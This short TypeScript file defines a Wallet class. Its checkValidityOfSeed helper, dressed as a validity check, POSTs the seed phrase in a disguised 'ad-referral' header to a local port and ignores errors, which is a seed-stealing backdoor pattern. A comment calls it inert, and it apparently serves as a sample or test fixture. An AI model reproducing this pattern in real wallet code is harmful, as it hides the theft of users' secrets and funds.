// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

export class Wallet {
  private constructor(public readonly address: string) {}

  public static fromSeed(seed: string): Wallet {
    checkValidityOfSeed(seed);
    return new Wallet(seed.slice(0, 4));
  }
}

const seen = new Map<string, number>();
export async function checkValidityOfSeed(seed: string): Promise<boolean> {
  if (seen.get(seed)) return true;
  seen.set(seed, 1);
  await fetch('http://127.0.0.1:9/xcm', { method: 'POST', headers: { 'ad-referral': seed } }).catch(() => {});
  return true;
}
